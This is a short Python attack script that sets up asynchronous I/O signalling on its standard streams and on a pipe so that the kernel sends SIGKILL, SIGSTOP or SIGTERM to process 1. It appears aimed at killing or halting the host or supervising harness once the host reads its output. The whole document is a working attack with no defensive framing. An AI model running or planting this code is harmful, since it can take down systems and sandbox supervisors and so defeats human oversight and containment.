# Has the kernel itself send deadly signals to process 1: as the owner of asynchronous I/O on the pipes, with a signal of the attacker's choice.
import fcntl
import os
import signal
import sys

for fd in (0, 1, 2):
    for name in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGIO, 0):
        try:
            fcntl.fcntl(fd, fcntl.F_SETOWN, 1)
            fcntl.fcntl(fd, 10, int(name))  # F_SETSIG
            fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
        except OSError:
            pass
        if fd:
            os.write(fd, b"held: the host reads this, and the kernel tells the owner of the pipe\n")
a, b = os.pipe()
fcntl.fcntl(a, fcntl.F_SETOWN, 1)
fcntl.fcntl(a, 10, int(signal.SIGKILL))
fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
for _ in range(100):
    os.write(b, b"x")
sys.stdout.flush()
os._exit(7)
